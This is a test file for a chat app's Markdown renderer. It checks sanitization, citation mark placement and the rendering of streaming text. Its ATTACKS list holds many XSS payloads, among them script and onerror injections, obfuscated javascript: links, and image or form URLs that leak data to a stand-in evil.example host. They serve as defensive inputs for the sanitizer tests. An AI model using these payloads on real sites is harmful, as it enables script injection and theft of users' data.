import { beforeEach, describe, expect, it } from "vitest";
import type { Mark } from "../src/chat/citations.ts";
import { MarkdownView, mended } from "../src/frame/view/markdown.ts";
import { safeAddress } from "../src/frame/view/prose.ts";

let root: HTMLElement;
const mark = (at: number, number = 1): Mark => ({ at, citation: { number, annotation: 0, source: { type: "url", title: "T", description: null, url: "https://x.example/", attribution: null } } });
const draw = ({ citation }: Mark) => Object.assign(document.createElement("sup"), { className: "mark", textContent: String(citation.number) });
const html = (source: string, marks: Mark[] = []) => {
  new MarkdownView(root, draw).update(source, marks, false);
  return root.innerHTML.replaceAll('<div class="block">', "").replaceAll("</div>", "");
};

beforeEach(() => {
  root = document.createElement("div");
});

const ALLOWED = new Set(
  "a p br hr strong em del code pre ul ol li blockquote h3 h4 h5 h6 table thead tbody tr th td div sup".split(" "),
);
const ATTRIBUTES = new Set(["href", "target", "rel", "class", "align", "start", "tabindex"]);

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import url(https://evil.example)</style>",
  "<form action=https://evil.example><button>x</button></form>",
  "<link rel=stylesheet href=https://evil.example>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<details open ontoggle=alert(1)>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "<video src=https://evil.example><audio src=https://evil.example>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) [z](blob:https://x/1)",
  "[x](file:///etc/passwd) [y](ftp://x.example) [z](//evil.example) [w](/relative) [v](#hash)",
  "<javascript:alert(1)>",
  '[x](https://x.example "onmouseover=alert(1)")',
  '[x](https://x.example/"onmouseover="alert(1))',
  "![x](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  "[![x](https://evil.example/p.png)](https://x.example)",
  "[x]: javascript:alert(1)\n\n[x]",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```\"><img src=x onerror=alert(1)>\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "# <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "⸨\uE100⸩ <b id=stonechat-config>⸨\uE101⸩",
  "&lt;img src=x onerror=alert(1)&gt;",
  "[x](https://user:pass@evil.example)",
];

describe("hostile Markdown", () => {
  it.each(ATTACKS)("makes nothing but allowed elements: %s", (attack) => {
    for (const source of [attack, `text ${attack} text`, `**${attack}**`, `${attack}\n\n${attack}`]) {
      root.replaceChildren();
      html(source);
      for (const element of root.querySelectorAll("*")) {
        expect(ALLOWED).toContain(element.localName);
        for (const { name, value } of element.attributes) {
          expect(ATTRIBUTES).toContain(name);
          if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
        }
      }
      expect(root.querySelectorAll("sup")).toHaveLength(0); // no mark was asked for
    }
  });

  it("shows HTML as the text it is", () => {
    html("a <b>bold</b> claim");
    expect(root.textContent).toBe("a <b>bold</b> claim");
  });

  it("turns images into links, so that nothing is loaded", () => {
    expect(html("![a cat](https://x.example/cat.png)")).toBe(
      '<p><a href="https://x.example/cat.png" target="_blank" rel="noopener noreferrer nofollow">a cat</a></p>',
    );
  });

  it("survives nesting that exhausts the lexer", () => {
    for (const deep of [">".repeat(50_000), "- ".repeat(50_000), "[".repeat(50_000), "**a ".repeat(2_000)]) {
      root.replaceChildren();
      html(deep);
      expect(root.textContent).toContain(deep.slice(0, 3).trim());
    }
  });

  it.each([
    ["https://x.example/a b", "https://x.example/a%20b"],
    ["mailto:a@x.example", "mailto:a@x.example"],
    ["  https://x.example", "https://x.example/"],
    ["java\nscript:alert(1)", null],
    ["x.example", null],
  ])("reads the address %j as %j", (href, expected) => {
    expect(safeAddress(href)).toBe(expected);
  });
});

describe("ordinary Markdown", () => {
  it.each([
    ["**b** *i* ~~d~~ `c`", "<p><strong>b</strong> <em>i</em> <del>d</del> <code>c</code></p>"],
    ["# One\n\n###### Six", "<h3>One</h3><h6>Six</h6>"],
    ["- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
    ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
    ["- [x] done\n- [ ] open", "<ul><li>☑ done</li><li>☐ open</li></ul>"],
    ["> q", "<blockquote><p>q</p></blockquote>"],
    ["---", "<hr>"],
    ["a  \nb", "<p>a<br>b</p>"],
    ["```js\nx < 1\n```", '<div class="wide" tabindex="0"><pre><code>x &lt; 1</code></pre>'],
    ["AT&amp;T &lt; &#8364; &#x20AC; &unknown;", "<p>AT&amp;T &lt; € € &amp;unknown;</p>"],
    ["\\*not\\*", "<p>*not*</p>"],
  ])("%j", (source, expected) => {
    expect(html(source)).toBe(expected);
  });

  it("draws tables with their alignment", () => {
    html("| a | b |\n|:-:|--:|\n| 1 | 2 |");
    expect([...root.querySelectorAll("td")].map((cell) => [cell.textContent, cell.getAttribute("align")])).toEqual([
      ["1", "center"],
      ["2", "right"],
    ]);
  });
});

describe("marks", () => {
  const plain = () => root.textContent;
  it("stand where the text says", () => {
    expect(html("One. Two.", [mark(4, 1), mark(9, 2)])).toBe('<p>One.<sup class="mark">1</sup> Two.<sup class="mark">2</sup></p>');
  });

  it("move before white space, and stay with the block they end", () => {
    expect(html("One. \n\nTwo.", [mark(6)])).toBe('<p>One.<sup class="mark">1</sup> </p><p>Two.</p>');
  });

  it("do not break the emphasis beside them", () => {
    expect(html("**Bold.** next", [mark(9)])).toContain("<strong>Bold.</strong>");
    expect(html("**Bold** next", [mark(6)])).toContain('<strong>Bold<sup class="mark">1</sup></strong>');
  });

  it("do not break code fences, rules and tables; they are left out there", () => {
    for (const source of ["```\ncode\n```", "a\n\n---", "| a |\n|---|\n| b |"]) {
      root.replaceChildren();
      const without = html(source);
      root.replaceChildren();
      expect(html(source, [mark(source.length)]).replace(/<sup.*?<\/sup>/, "")).toBe(without);
    }
  });

  it("stand after a link, never inside one, and leave its address alone", () => {
    for (const source of ["see https://x.example/a", "see [the page](https://x.example/a)"]) {
      root.replaceChildren();
      html(source, [mark(source.length)]);
      expect(root.querySelector("a")?.getAttribute("href")).toBe("https://x.example/a");
      expect(root.querySelector("a sup")).toBeNull();
      expect(root.querySelectorAll("sup")).toHaveLength(1);
    }
    root.replaceChildren();
    html("[x](https://x.example/abc)", [mark(22)]);
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://x.example/abc");
  });

  it("do not make the full stop a part of the address before them", () => {
    html("see https://x.example/a.", [mark(24)]);
    expect(root.innerHTML).toContain('href="https://x.example/a"');
    expect(root.textContent).toBe("see https://x.example/a.1");
  });

  it("cannot be forged by the text", () => {
    html("a ⸨\uE100⸩ b", [mark(1)]);
    expect(root.querySelectorAll("sup")).toHaveLength(1);
    expect(plain()).toContain("\uFFFD");
  });
});

describe("a growing text", () => {
  const TEXT = "# Title\n\nSome **bold** text.\n\n- one\n- two\n\n```\ncode\n```\n\n| a |\n|---|\n| b |\n\nEnd [link](https://x.example).";

  it("ends the same as one drawn at once, whatever the pieces", () => {
    const whole = html(TEXT, [mark(28)]);
    for (const size of [1, 3, 7, 50]) {
      root.replaceChildren();
      const view = new MarkdownView(root, draw);
      for (let end = size; end < TEXT.length; end += size) view.update(TEXT.slice(0, end), end >= 28 ? [mark(28)] : [], true);
      view.update(TEXT, [mark(28)], false);
      expect(root.innerHTML.replaceAll('<div class="block">', "").replaceAll("</div>", "")).toBe(whole);
    }
  });

  it("leaves finished blocks alone", () => {
    const view = new MarkdownView(root, draw);
    view.update("First.\n\nSecond", [], true);
    const first = root.firstElementChild?.firstChild;
    view.update("First.\n\nSecond grows.\n\nThird", [], true);
    expect(root.firstElementChild?.firstChild).toBe(first);
    expect(root.children).toHaveLength(3);
  });

  it("gives a finished block the mark that came late", () => {
    const view = new MarkdownView(root, draw);
    view.update("First.\n\nSecond", [], true);
    view.update("First.\n\nSecond", [mark(6)], true);
    expect(root.firstElementChild?.innerHTML).toBe('<p>First.<sup class="mark">1</sup></p>');
  });

  it("starts afresh when the text is another", () => {
    const view = new MarkdownView(root, draw);
    view.update("First.\n\nSecond.\n\nThird", [], true);
    view.update("Other.\n\nText", [], false);
    expect(root.textContent).toBe("Other.Text");
  });

  it.each([
    ["a **bol", "a **bol**"],
    ["a **", "a "],
    ["a `cod", "a `cod`"],
    ["see [the pa", "see the pa"],
    ["see [the page](https://x.ex", "see the page"],
    ["see [a](https://x.example) and", "see [a](https://x.example) and"],
    ["2 * 3", "2 * 3"],
  ])("hides half-written syntax: %j", (source, expected) => {
    expect(mended(source)).toBe(expected);
  });
});
